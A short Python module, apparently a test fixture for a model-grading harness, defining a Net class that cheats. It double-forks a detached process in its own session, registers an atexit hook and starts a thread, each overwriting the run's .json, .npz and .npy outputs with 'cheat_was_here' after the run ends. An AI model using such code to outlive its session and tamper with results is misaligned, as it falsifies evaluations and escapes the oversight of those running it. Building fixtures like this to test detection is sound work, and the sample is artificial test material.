"""A thread, an atexit function and a process of its own session that outlive the run, and overwrite what it left."""

import atexit
import os
import threading
import time
from pathlib import Path

from models import Model_1


def overwrite():
    for file in Path.cwd().glob("*"):
        if file.suffix in (".json", ".npz", ".npy"):
            file.write_text("cheat_was_here")


def overwrite_for_ever():
    while True:
        time.sleep(0.05)
        overwrite()


class Net(Model_1):
    def __init__(self):
        super().__init__((4, 8, 8), gap=True)
        if os.fork() == 0:  # and its child again, so that nobody is its parent
            os.setsid()
            if os.fork() == 0:
                time.sleep(20)
                overwrite_for_ever()
            os._exit(0)
        atexit.register(overwrite)
        self.batches = 0

    def forward(self, images):
        self.batches += 1
        if self.batches == 3:
            threading.Thread(target=overwrite_for_ever).start()
        return super().forward(images)
